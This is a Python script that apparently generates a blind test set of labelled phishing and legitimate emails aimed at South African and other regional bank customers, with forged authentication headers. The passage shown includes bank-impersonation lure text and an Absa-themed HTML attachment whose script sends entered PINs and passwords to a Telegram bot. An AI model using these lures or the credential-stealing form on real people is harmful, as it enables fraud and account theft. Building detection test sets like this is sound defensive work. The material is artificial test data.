"""Blind set 19: mail of consumers and small businesses in Africa, Southeast Asia, Ukraine, the Baltics and Israel.

A regional security vendor's threat-intel team collected these 2023-2026 messages from customer
mailboxes (Gmail, Microsoft 365 tenants and local ISP mail servers) in South Africa, Nigeria, Kenya,
Ghana, Egypt, Morocco, Thailand, Vietnam, Indonesia, the Philippines, Malaysia, Ukraine, Latvia,
Lithuania, Estonia and Israel, in the languages the recipients read (English, French, Arabic, Thai,
Vietnamese, Indonesian, Tagalog/English, Malay, Ukrainian, Latvian, Lithuanian, Estonian, Hebrew).

Attacks (50): local bank, tax, mobile-money, courier and e-government lures (SARS, FNB, Capitec, Absa,
GTBank, Access Bank, M-Pesa, KRA, MTN MoMo, GRA, CIB, NBE, Attijariwafa, Barid Al-Maghrib, DGI,
K PLUS, Bangkok Bank, Kerry, Vietcombank, Techcombank, BCA, J&T, DJP, GCash, BIR, Maybank, Touch 'n Go,
LHDN, Diia, PrivatBank, OLX, ukr.net, Swedbank, Omniva, Smart-ID, Leumi, Israel Post, Tax Authority, Bit),
sent from lookalike domains, spoofed domains, freemail and compromised genuine mailboxes; genuine
services abused (SharePoint, Microsoft Forms, Google Sites); callback and WhatsApp numbers; supplier
bank-detail change in a reply chain and CEO fraud; HTML and SVG attachments, a PDF with a link, a PDF
with a QR code and one ZIP dropper.

Legitimate (25): the same brands done right (FNB, GCash, K PLUS, PrivatBank, Nova Poshta, J&T, Omniva,
Israel Post, SARS, Diia, eesti.ee, M-PESA, Maybank, Vietcombank, CIB, Amana, Google), a regional
newsletter with tracking links, supplier invoices and internal business mail, personal mail.
"""

from __future__ import annotations

import base64
import email
import hashlib
import html as htmlmod
import re
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind19_manifest.txt"


def H(seed: str, n: int = 16) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:n]


def B(seed: str, n: int, alphabet: str = "") -> str:
    raw = b""
    i = 0
    while len(raw) * 4 // 3 < n + 8:
        raw += hashlib.sha512(f"{seed}/{i}".encode()).digest()
        i += 1
    out = base64.b64encode(raw).decode()
    if alphabet == "url":
        out = out.replace("+", "-").replace("/", "_")
    elif alphabet == "an":
        out = out.replace("+", "x").replace("/", "Q")
    return out[:n]


def enc(s: str) -> str:
    """RFC 2047 encoding of a header text, split into encoded words of sane length."""
    if s.isascii():
        return s
    words, cur = [], ""
    for ch in s:
        if len((cur + ch).encode()) > 42:
            words.append(cur)
            cur = ""
        cur += ch
    words.append(cur)
    return "\n ".join("=?UTF-8?B?" + base64.b64encode(w.encode()).decode() + "?=" for w in words)


def addr(name: str, mail: str) -> str:
    if not name:
        return f"<{mail}>" if False else mail
    if not name.isascii():
        return f"{enc(name)} <{mail}>"
    if re.search(r"[,.@:;()\[\]'\"]", name):
        return f'"{name}" <{mail}>'
    return f"{name} <{mail}>"


def dom(a: str) -> str:
    return a.rsplit("@", 1)[1]


def when(m: dict, delta: int = 0, tz: float | None = None, label: bool = False) -> str:
    d = datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z") + timedelta(seconds=delta)
    if tz is not None:
        d = d.astimezone(timezone(timedelta(hours=tz)))
    s = format_datetime(d)
    if label:
        s += " (PDT)" if tz == -7 else " (PST)" if tz == -8 else " (UTC)"
    return s


def _pacific(m: dict) -> int:
    month = int(m["date"][5:7])
    return -7 if 3 < month < 11 else -8


def dkim_sig(m: dict, d: str, s: str) -> str:
    n = m["n"]
    ts = int(datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z").timestamp())
    hdrs = m.get("dkh", "from:to:subject:date:message-id:mime-version:content-type")
    b = B(n + "dkimb", 344)
    bl = "\n\t ".join(b[i:i + 70] for i in range(0, len(b), 70))
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={ts}; "
            f"bh={B(n + 'bh', 43)}=;\n\th={hdrs};\n\tb={bl}")


def _ar_google(m, mf, ip, spf, dk, dmarc, pol, fd):
    parts = []
    if dk[0] != "none":
        parts.append(f"dkim={dk[0]} header.i=@{dk[1]} header.s={dk[2]} header.b={B(m['n'] + 'dkimb', 8)}")
    spftext = {
        "pass": f"(google.com: domain of {mf} designates {ip} as permitted sender)",
        "fail": f"(google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "neutral": f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"(google.com: {mf} does not designate permitted sender hosts)",
    }[spf]
    parts.append(f"spf={spf} {spftext} smtp.mailfrom={mf}")
    if dmarc != "none":
        dis = "NONE" if dmarc == "pass" else {"REJECT": "QUARANTINE", "QUARANTINE": "QUARANTINE"}.get(pol, "NONE")
        parts.append(f"dmarc={dmarc} (p={pol} sp={pol} dis={dis}) header.from={fd}")
    elif fd not in ("gmail.com",):
        parts.append(f"dmarc=none (p=NONE sp=NONE dis=NONE) header.from={fd}" if False else "")
    parts = [p for p in parts if p]
    rs = {"pass": "pass", "fail": "fail", "softfail": "softfail", "neutral": "neutral", "none": "none"}[spf]
    spfline = (f"Received-SPF: {rs} {spftext} client-ip={ip};")
    return spfline, "Authentication-Results: mx.google.com;\n       " + ";\n       ".join(parts)


def chain(m: dict) -> list[str]:
    n = m["n"]
    to = m["to"][1]
    fd = dom(m["from"][1])
    mf = m.get("mf", m["from"][1])
    helo, rdns, ip = m["src"]
    spf, dkim, dmarc = m.get("auth", ("pass", "pass", "pass"))
    dkd = m.get("dk", (fd, "selector1"))
    pol = m.get("pol", "NONE")
    rx = m.get("rx", "google")
    top: list[str] = []
    if rx == "google":
        pz = _pacific(m)
        top.append(f"Delivered-To: {to}")
        top.append(f"Received: by 2002:a05:{H(n + 'g1', 4)}:{H(n + 'g2', 3)}:b0:{H(n + 'g3', 3)}:{H(n + 'g4', 4)} "
                   f"with SMTP id {B(n + 'g5', 8, 'an').lower()};\n        {when(m, 6, pz, True)}")
        top.append(f"X-Google-Smtp-Source: AGHT+I{B(n + 'g6', 62, 'an')}")
        top.append(f"X-Received: by 2002:a17:{H(n + 'g7', 3)}:{H(n + 'g8', 4)}:b0:{H(n + 'g9', 4)}:{H(n + 'ga', 4)} "
                   f"with SMTP id {H(n + 'gb', 4)}-{H(n + 'gc', 4)}.{int(H(n + 'gd', 3), 16) % 90 + 10}.{int(H(n + 'ge', 4), 16)};\n"
                   f"        {when(m, 6, pz, True)}")
        top.append(f"Return-Path: <{mf}>")
        top.append(f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n        by mx.google.com with ESMTPS id "
                   f"{H(n + 'gf', 12)}.{int(H(n + 'gg', 3), 16)}.2024.{int(H(n + 'gh', 4), 16)}\n        for <{to}>\n"
                   f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {when(m, 5, pz, True)}")
        spfline, ar = _ar_google(m, mf, ip, spf, (dkim, dkd[0], dkd[1]), dmarc, pol, fd)
        top += [spfline, ar]
    elif rx == "o365":
        reg = m.get("reg", "eur")
        pre = {"eur": ("AM9PR08MB", "DB1PEPF0000", "DU2PR04CA0", "eurprd08", "eurprd04", "eurprd03"),
               "za": ("JNAP275MB", "JN2PEPF0000", "JN3P275CA0", "ZAFP275", "ZAFP275", "zafprd01"),
               "apc": ("SEZPR06MB", "SG1PEPF0000", "SI2PR01CA0", "apcprd06", "apcprd01", "apcprd02")}[reg]
        mb = f"{pre[0]}{int(H(n + 'o1', 4), 16) % 9000 + 1000}.{pre[3]}.prod.outlook.com"
        ca = f"{pre[2]}{int(H(n + 'o2', 3), 16) % 900 + 100}.{pre[4]}.prod.outlook.com"
        fe = f"{pre[1]}{H(n + 'o3', 4).upper()}.{pre[5]}.prod.outlook.com"
        v6 = lambda k: f"2603:10a6:{H(n + k, 3)}:{H(n + k + 'x', 3)}::{int(H(n + k + 'y', 2), 16)}"
        tls = "(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)"
        top.append(f"Received: from {mb} ({v6('a')}) by\n {pre[0]}{int(H(n + 'o4', 4), 16) % 9000 + 1000}.{pre[3]}.prod.outlook.com "
                   f"with HTTPS; {when(m, 9, 0)}")
        top.append(f"Received: from {ca} ({v6('b')})\n by {mb} ({v6('a')}) with Microsoft\n SMTP Server {tls}\n"
                   f" id 15.20.{7000 + int(H(n + 'o5', 3), 16) % 1900}.{int(H(n + 'o6', 2), 16)}; {when(m, 8, 0)}")
        top.append(f"Received: from {fe}\n ({v6('c')}) by {ca.replace('.prod.outlook.com', '.outlook.office365.com')}\n"
                   f" ({v6('b')}) with Microsoft SMTP Server {tls}\n id 15.20.{7000 + int(H(n + 'o5', 3), 16) % 1900}."
                   f"{int(H(n + 'o6', 2), 16)} via Frontend Transport; {when(m, 8, 0)}")
        dk = f"dkim={dkim} (signature was verified)\n header.d={dkd[0]};" if dkim == "pass" else (
            f"dkim={dkim} (signature did not verify)\n header.d={dkd[0]};" if dkim == "fail" else "dkim=none (message not signed)\n header.d=none;")
        act = "none" if dmarc == "pass" else {"REJECT": "oreject", "QUARANTINE": "quarantine"}.get(pol, "none")
        dm = f"dmarc={dmarc} action={act} header.from={fd};" if dmarc != "none" else "dmarc=none action=none header.from=" + fd + ";"
        comp = "compauth=pass reason=100" if dmarc == "pass" else ("compauth=fail reason=000" if dmarc == "fail" else "compauth=softpass reason=201")
        spfwhy = {"pass": f"(sender IP is {ip})", "fail": f"(sender IP is {ip})", "softfail": f"(sender IP is {ip})",
                  "none": f"(sender IP is {ip})", "neutral": f"(sender IP is {ip})"}[spf]
        top.append(f"Authentication-Results: spf={spf} {spfwhy}\n smtp.mailfrom={dom(mf)}; {dk}{dm}{comp}")
        rs = {"pass": f"Pass (protection.outlook.com: domain of {dom(mf)} designates {ip} as permitted sender)",
              "fail": f"Fail (protection.outlook.com: domain of {dom(mf)} does not designate {ip} as permitted sender)",
              "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {dom(mf)} discourages use of {ip} as permitted sender)",
              "none": f"None (protection.outlook.com: {dom(mf)} does not designate permitted sender hosts)",
              "neutral": f"Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of {dom(mf)})"}[spf]
        top.append(f"Received-SPF: {rs}\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
        top.append(f"Received: from {helo} ({ip}) by\n {fe.replace('.prod.outlook.com', '.mail.protection.outlook.com')} "
                   f"(10.167.{int(H(n + 'o7', 2), 16)}.{int(H(n + 'o8', 2), 16)}) with Microsoft SMTP Server\n "
                   f"(version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.{7000 + int(H(n + 'o5', 3), 16) % 1900}."
                   f"{int(H(n + 'o6', 2), 16)}\n via Frontend Transport; {when(m, 7, 0)}")
        top.append(f"Return-Path: {mf}")
        top.append("X-MS-Exchange-Organization-AuthSource:\n " + fe)
        top.append("X-MS-Exchange-Organization-AuthAs: Anonymous")
        top.append(f"X-MS-Exchange-Organization-SCL: {m.get('scl', 1)}")
    else:
        host = rx
        q = H(n + "pq", 11).upper()
        top.append(f"Return-Path: <{mf}>")
        top.append(f"Delivered-To: {to}")
        top.append(f"Received: from {host}\n\tby {host.replace('mx', 'imap', 1)} with LMTP\n\tid {B(n + 'lm', 22, 'an')}\n"
                   f"\t(envelope-from <{mf}>)\n\tfor <{to}>; {when(m, 8)}")
        top.append(f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
                   f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits))\n\t(No client certificate requested)\n"
                   f"\tby {host} (Postfix) with ESMTPS id {q}\n\tfor <{to}>; {when(m, 6)}")
        parts = []
        if dkim != "none":
            parts.append(f"dkim={dkim} header.d={dkd[0]} header.s={dkd[1]} header.b={B(n + 'dkimb', 8)}")
        else:
            parts.append("dkim=none")
        parts.append(f"spf={spf} ({host}: domain of {mf} {'designates' if spf == 'pass' else 'does not designate'} {ip} "
                     f"as permitted sender) smtp.mailfrom={mf}")
        parts.append(f"dmarc={dmarc} (policy={pol.lower()}) header.from={fd}")
        top.append(f"Authentication-Results: {host};\n\t" + ";\n\t".join(parts))
        top.append(f"X-Spam-Status: {'Yes' if m.get('spam') else 'No'}, score={m.get('score', '1.2')}")
    sender = []
    if dkim in ("pass", "fail") and m.get("sign", True):
        sender.append(dkim_sig(m, dkd[0], dkd[1]))
    for line in m.get("srx", []):
        sender.append(line.format(d0=when(m, 0), d1=when(m, 1), d2=when(m, 2), n=n, h=H(n + "srx", 12).upper()))
    return top + sender


def msgid(m: dict) -> str:
    n = m["n"]
    t = m.get("mid", "<{h24}@{host}>")
    return t.format(h8=H(n + "m", 8), h12=H(n + "m", 12), h16=H(n + "m", 16), h24=H(n + "m", 24), h32=H(n + "m", 32),
                    H12=H(n + "m", 12).upper(), H16=H(n + "m", 16).upper(), b=B(n + "m", 20, "an"),
                    host=m["src"][0], d=m["date"][:10].replace("-", ""), ts=int(datetime.strptime(
                        m["date"], "%Y-%m-%d %H:%M:%S %z").timestamp()), fd=dom(m["from"][1]))


def headers(m: dict) -> str:
    lines = chain(m)
    lines.append(f"From: {addr(*m['from'])}")
    if m.get("to_hdr"):
        lines.append(f"To: {m['to_hdr']}")
    else:
        lines.append(f"To: {addr(*m['to'])}")
    if m.get("cc"):
        lines.append(f"Cc: {m['cc']}")
    if m.get("rt"):
        lines.append(f"Reply-To: {m['rt']}")
    lines.append(f"Subject: {enc(m['subj'])}")
    lines.append(f"Date: {when(m, 0)}")
    lines.append(f"Message-ID: {msgid(m)}")
    if m.get("irt"):
        lines.append(f"In-Reply-To: {m['irt']}")
        lines.append(f"References: {m.get('refs', m['irt'])}")
    lines += m.get("xh", [])
    return "\n".join(lines)


def to_text(h: str) -> str:
    s = re.sub(r"(?is)<(style|head|script)[^>]*>.*?</\1>", "", h)
    s = re.sub(r'(?is)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>',
               lambda mm: (re.sub("<[^>]+>", "", mm.group(2)).strip() + f" <{mm.group(1)}>") if not mm.group(1).startswith("mailto:") else re.sub("<[^>]+>", "", mm.group(2)), s)
    s = re.sub(r"(?i)<br\s*/?>", "\n", s)
    s = re.sub(r"(?i)</(p|tr|div|h1|h2|h3|li|table)>", "\n", s)
    s = re.sub(r"<[^>]+>", "", s)
    s = htmlmod.unescape(s)
    s = "\n".join(line.strip() for line in s.splitlines())
    s = re.sub(r"\n{3,}", "\n\n", s).strip()
    return s + "\n"


def body(m: dict):
    n = m["n"]
    b1, b2 = f"----=_Part_{H(n + 'b1', 6)}_{int(H(n + 'b2', 8), 16)}", f"000000000000{H(n + 'b3', 16)}"
    cenc = m.get("cte", "quoted-printable")
    parts = []
    if m.get("text") is not None:
        parts.append(text(m["text"], "plain", cenc))
    if m.get("html") is not None:
        if m.get("alt") and m.get("text") is None:
            parts.append(text(to_text(m["html"]), "plain", cenc))
        parts.append(text(m["html"], "html", cenc))
    core = parts[0] if len(parts) == 1 else Multi("alternative", b2 if m.get("gm") else b1, parts)
    if m.get("inline"):
        core = Multi("related", "rel_" + H(n + "rel", 20), [core] + m["inline"], params=' type="multipart/alternative";')
    if m.get("att"):
        return Multi("mixed", ("00000000000" + H(n + "mx", 17)) if m.get("gm") else f"----=_NextPart_{H(n + 'mx', 3)}_{H(n + 'my', 4).upper()}_{H(n + 'mz', 8).upper()}",
                     [core] + m["att"])
    return core


# ---------- body helpers ----------

def page(inner: str, lang: str = "en", rtl: bool = False, title: str = "", bg: str = "#f4f4f4") -> str:
    d = ' dir="rtl"' if rtl else ""
    return (f'<!DOCTYPE html>\n<html lang="{lang}"{d}>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1.0">\n<title>{title}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background-color:{bg};font-family:Arial,Helvetica,sans-serif;">\n{inner}\n</body>\n</html>\n')


def card(color: str, logo: str, alt: str, heading: str, paras: list[str], btn=None, foot: str = "", lang="en", rtl=False,
         title="") -> str:
    al = "right" if rtl else "left"
    ps = "\n".join(f'<p style="margin:0 0 14px 0;font-size:14px;line-height:21px;color:#333333;text-align:{al};">{p}</p>' for p in paras)
    b = ""
    if btn:
        b = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:18px 0;"><tr>'
             f'<td bgcolor="{color}" style="border-radius:4px;padding:12px 26px;"><a href="{btn[1]}" '
             f'style="color:#ffffff;font-size:15px;font-weight:bold;text-decoration:none;">{btn[0]}</a></td></tr></table>')
    img = f'<img src="{logo}" alt="{alt}" width="140" style="display:block;border:0;">' if logo else f'<b style="color:#fff;font-size:20px">{alt}</b>'
    inner = (f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4"><tr><td align="center" style="padding:20px 10px;">\n'
             f'<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:600px;">\n'
             f'<tr><td bgcolor="{color}" style="padding:18px 24px;">{img}</td></tr>\n'
             f'<tr><td style="padding:26px 28px 10px 28px;text-align:{al};"><h2 style="margin:0 0 16px 0;font-size:20px;color:#222222;">{heading}</h2>\n{ps}\n{b}\n</td></tr>\n'
             f'<tr><td style="padding:16px 28px 24px 28px;border-top:1px solid #e5e5e5;font-size:11px;line-height:16px;color:#888888;text-align:{al};">{foot}</td></tr>\n'
             f'</table>\n</td></tr></table>')
    return page(inner, lang, rtl, title or heading)


def gmail_html(paras: list[str], sig: str = "", quote: str = "", rtl: bool = False) -> str:
    d = "rtl" if rtl else "ltr"
    ps = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    s = f'<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="{d}" class="gmail_signature">{sig}</div>' if sig else ""
    return f'<div dir="{d}">{ps}{s}</div>{quote}\n'


def outlook_html(paras: list[str], sig: str = "", quote: str = "", lang: str = "EN-ZA") -> str:
    ps = "\n".join(f'<p class="MsoNormal"><span lang="{lang}">{p or "&nbsp;"}<o:p></o:p></span></p>' for p in paras)
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}\n'
            'span.EmailStyle17 {mso-style-type:personal-compose;font-family:"Calibri",sans-serif;color:windowtext;}\n'
            '--></style>\n</head>\n<body lang="EN-ZA" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{ps}\n{sig}\n{quote}\n</div>\n</body>\n</html>\n')


def pdf_att(name: str, lines: list[str], link=None, title="") -> Leaf:
    return attachment("application/pdf", name, files.pdf(lines, link, title))


def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text and a QR code image (Flate grey), as invoice-style QR lures are built."""
    import segno

    qr = segno.make(url, error="m")
    rows = [list(r) for r in qr.matrix]
    scale, border = 4, 4
    size = (len(rows) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        raw.append(0)
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(rows) and 0 <= mx < len(rows) and rows[my][mx]
            raw.append(0 if dark else 255)
    img = zlib.compress(bytes(raw), 9)
    # the filter needs no predictor: strip the per-row filter bytes
    plain = bytearray()
    for y in range(size):
        plain += raw[y * (size + 1) + 1:(y + 1) * (size + 1)]
    img = zlib.compress(bytes(plain), 9)
    cl = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"] + [f"({files._pdf_escape(x)}) Tj T*" for x in lines] + ["ET",
          "q 180 0 0 180 56 300 cm /Im1 Do Q"]
    objs = files.image_page("\n".join(cl).encode("latin-1"), img, size, size, "FlateDecode")
    objs.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (iLovePDF) /CreationDate (D:20240611080000+00'00') >>".encode())
    return files.pdf_file(objs, len(objs) + 1)


def trk(host: str, seed: str, path: str = "/ls/click?upn=") -> str:
    return f"https://{host}{path}{B(seed, 96, 'url')}"


def foot_unsub(host: str, seed: str) -> list[str]:
    u = f"https://{host}/unsubscribe/{B(seed + 'u', 40, 'url')}"
    return [f"List-Unsubscribe: <{u}>,\n <mailto:unsubscribe-{H(seed, 20)}@{host}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]


# ---------- the messages ----------

MSGS: list[dict] = []


def add(**m):
    MSGS.append(m)


GMAIL_SRC = ("mail-sor-f41.google.com", "mail-sor-f41.google.com", "209.85.220.41")
GMAIL_DK = ("gmail.com", "20230601")
PHPM = "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"
# ===== South Africa =====
add(n="za-sars-efiling-refund", cat="phishing", kind="phish",
    d="SARS eFiling refund lure from a freshly registered lookalike domain that passes its own SPF/DKIM; link to a kit asking for eFiling login and banking details.",
    frm=("SARS eFiling", "no-reply@sars-efiling-refunds.co.za"), to=("Thandi Mokoena", "thandi.mokoena82@gmail.com"),
    subj="Notice of Assessment (ITA34) - Refund of R4 872,16 pending verification", date="2024-09-18 07:42:11 +0200",
    src=("mail.sars-efiling-refunds.co.za", "vps-41729.cloudza-host.co.za", "102.218.214.77"), dk=("sars-efiling-refunds.co.za", "default"),
    mid="<{h32}@sars-efiling-refunds.co.za>", xh=[PHPM], alt=True,
    html=card("#00458b", "https://sars-efiling-refunds.co.za/assets/sars_logo.png", "SARS", "Your refund is ready for release",
              ["Dear Taxpayer,", "Following the assessment of your 2024 Income Tax Return (ITR12), the South African Revenue Service has calculated a refund of <b>R4 872,16</b> in your favour.",
               "Because your banking details could not be verified against our records, the refund has been placed on hold. To avoid the refund being forfeited, please verify your banking details within <b>48 hours</b>.",
               "Reference: ITA34-2024-0918-55721"],
              ("Verify banking details", "https://sars-efiling-refunds.co.za/efiling/verify/?ref=ITA34-2024-0918-55721"),
              "South African Revenue Service &middot; Lehae La SARS, 299 Bronkhorst Street, Pretoria<br>This is an automated message, please do not reply."))

add(n="za-fnb-spoof-suspended", cat="phishing", kind="phish",
    d="Direct spoof of fnb.co.za (p=reject) from a bulletproof VPS: SPF and DMARC fail, message sits in junk; link to an FNB-looking kit on a .com.",
    frm=("FNB", "alerts@fnb.co.za"), to=("Pieter van Wyk", "pieter@karoobuild.co.za"), rx="o365", reg="za", scl=5,
    subj="FNB: Online Banking profile suspended - action required", date="2023-11-07 13:05:48 +0200",
    src=("hwsrv-1102347.hostwindsdns.com", None, "104.168.33.190"), mf="alerts@fnb.co.za", auth=("fail", "none", "fail"), pol="REJECT",
    mid="<20231107110548.{h16}@hwsrv-1102347.hostwindsdns.com>", xh=["X-Mailer: Microsoft Outlook Express 6.00.2900.5512"],
    html=page('<div style="font-family:Arial;font-size:14px;color:#000">'
              '<img src="https://fnb-onlinebanking-za.com/img/fnb.png" width="120"><br><br>'
              'Dear Valued Customer,<br><br>We have detected irregular login attempts on your FNB Online Banking profile. '
              'As a security measure your profile has been temporary suspended.<br><br>'
              'To restore full access please complete the profile verification below. Failure to verify within 24hrs will result to permanent deactivation.<br><br>'
              '<a href="https://fnb-onlinebanking-za.com/za/personal/login/verify.php" style="background:#01aaad;color:#fff;padding:10px 22px;text-decoration:none">Verify Now</a><br><br>'
              'Kind regards<br>FNB Fraud Department<br><br><span style="font-size:10px;color:#777">First National Bank - a division of FirstRand Bank Limited. An Authorised Financial Services and Credit Provider (NCRCP20).</span></div>'))

add(n="za-standardbank-compromised-school", cat="phishing", kind="phish",
    d="Standard Bank 'new device linked' lure sent from a compromised primary-school mailbox (SPF/DKIM/DMARC all pass) with the kit on a hacked WordPress site.",
    frm=("Standard Bank", "admin@stmarysprimary-pmb.co.za"), to=("Lerato Dlamini", "lerato.dlamini@webmail.co.za"), rx="mx2.webmail.co.za",
    subj="New device linked to your Standard Bank app", date="2024-03-22 21:14:03 +0200",
    src=("mail.stmarysprimary-pmb.co.za", "cp14.za-dns.co.za", "41.185.8.112"), dk=("stmarysprimary-pmb.co.za", "default"),
    mid="<{h32}@stmarysprimary-pmb.co.za>", xh=["User-Agent: Roundcube Webmail/1.6.5"],
    srx=["Received: from [197.185.102.44] (unknown [197.185.102.44])\n\tby cp14.za-dns.co.za (Postfix) with ESMTPSA id {h}\n\tfor <lerato.dlamini@webmail.co.za>; {d0}"],
    text=("Standard Bank\n\nA new device (Samsung SM-A546E) was linked to your Standard Bank App on 22/03/2024 at 20:58.\n\n"
          "If this was not you, cancel the linking immediately to stop any transactions from being processed:\n"
          "https://www.kzn-plumbing.co.za/wp-content/uploads/2021/07/sb/cancel-device.php?id=8841207\n\n"
          "If you did link this device, no action is needed.\n\nStandard Bank. IT CAN BE.\nThe Standard Bank of South Africa Limited (Reg. No. 1962/000738/06). Authorised financial services and registered credit provider (NCRCP15).\n"))

add(n="za-capitec-callback", cat="phishing", kind="phish",
    d="Capitec 'suspicious transaction' callback scam from a Gmail account: no link, a phone number to call the fake fraud desk who then asks for the OTP.",
    frm=("Capitec Fraud Prevention", "capitec.fraudprevention.za@gmail.com"), to=("Sipho Ndlovu", "sipho.ndlovu77@gmail.com"),
    subj="Capitec: Suspicious transaction R 8 499.00 on your account", date="2025-02-11 10:31:20 +0200",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAJ{b}+{h12}@mail.gmail.com>", gm=True, pol="NONE",
    text=("Dear Client\n\nCapitec Bank has flagged the following transaction on your account for review:\n\n"
          "Merchant: TAKEALOT ONLINE JHB\nAmount: R 8 499.00\nDate: 11/02/2025 09:47\nCard: **** 3381\n\n"
          "If you do not recognise this transaction please call our Fraud Prevention Centre IMMEDIATELY on 010 446 2197 "
          "(available 24/7) so that the transaction can be reversed before it is settled.\n\n"
          "Please have your ID number ready. Do not reply to this email.\n\nCapitec Bank Fraud Prevention\nCapitec Bank Limited. Reg no: 1980/003695/06\n"),
    html=gmail_html(["Dear Client", "", "Capitec Bank has flagged the following transaction on your account for review:", "",
                     "<b>Merchant:</b> TAKEALOT ONLINE JHB", "<b>Amount:</b> R 8 499.00", "<b>Date:</b> 11/02/2025 09:47", "<b>Card:</b> **** 3381", "",
                     "If you do not recognise this transaction please call our Fraud Prevention Centre <b>IMMEDIATELY</b> on <b>010 446 2197</b> (available 24/7) so that the transaction can be reversed before it is settled.",
                     "", "Please have your ID number ready. Do not reply to this email.", "", "Capitec Bank Fraud Prevention",
                     '<span style="font-size:11px">Capitec Bank Limited. Reg no: 1980/003695/06</span>']))

ABSA_HTML = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Absa | Secure Message</title>"
             "<style>body{font-family:Arial;background:#f6f6f6}.box{width:380px;margin:60px auto;background:#fff;padding:30px;border-top:6px solid #dc0032}"
             "input{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #ccc}button{background:#dc0032;color:#fff;border:0;padding:11px;width:100%}</style></head>"
             "<body><div class=\"box\"><img src=\"https://upload.wikimedia.org/wikipedia/commons/thumb/4/4f/Absa_Group_Limited_Logo.svg/200px-Absa_Group_Limited_Logo.svg.png\" width=\"90\">"
             "<h3>Secure message viewer</h3><p>Sign in with your Absa Online credentials to decrypt your statement.</p>"
             "<form id=\"f\"><label>Access account number</label><input id=\"a\"><label>PIN</label><input id=\"p\" type=\"password\" maxlength=\"5\">"
             "<label>Password</label><input id=\"w\" type=\"password\"><label>Cellphone number</label><input id=\"c\"><button type=\"submit\">View statement</button></form></div>"
             "<script>var t='7012845530:AAF'+'x9kQm2Lr'+'T0vW_absa55';document.getElementById('f').onsubmit=function(e){e.preventDefault();"
             "var m='ABSA\\nAcc: '+a.value+'\\nPIN: '+p.value+'\\nPass: '+w.value+'\\nCell: '+c.value;"
             "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=-1002183349021&text='+encodeURIComponent(m)).then(function(){"
             "location.href='https://www.absa.co.za/personal/';});};</script></body></html>\n")
add(n="za-absa-html-attachment", cat="phishing", kind="phish",
    d="Absa 'secure statement' with an HTML attachment that renders a login form and posts the access number, PIN and password to a Telegram bot.",
    frm=("Absa Secure Mail", "securemail@absa-statements.net"), to=("Karabo Molefe", "karabo@molefe-attorneys.co.za"), rx="o365", reg="za", scl=1,
    subj="Your Absa statement is ready - Secure Message 2025-06", date="2025-06-03 08:12:40 +0200",
    src=("s2.absa-statements.net", "static.77.241.21.148.clients.your-server.de", "148.21.241.77"), dk=("absa-statements.net", "s1"),
    mid="<{h24}.{ts}@absa-statements.net>", xh=[PHPM],
    text=("Dear Customer\n\nYour monthly account statement has been sent to you as a secure message.\n\n"
          "Open the attached file and sign in with your Absa Online details to view it. For your protection the message expires after 72 hours.\n\n"
          "Absa Bank Limited, Reg No 1986/004794/06. Authorised Financial Services Provider. Registered Credit Provider Reg No NCRCP7\n"),
    att=[attachment("text/html", "Absa_Secure_Statement_0603.html", ABSA_HTML.encode())])

add(n="za-takealot-payment-failed", cat="phishing", kind="phish",
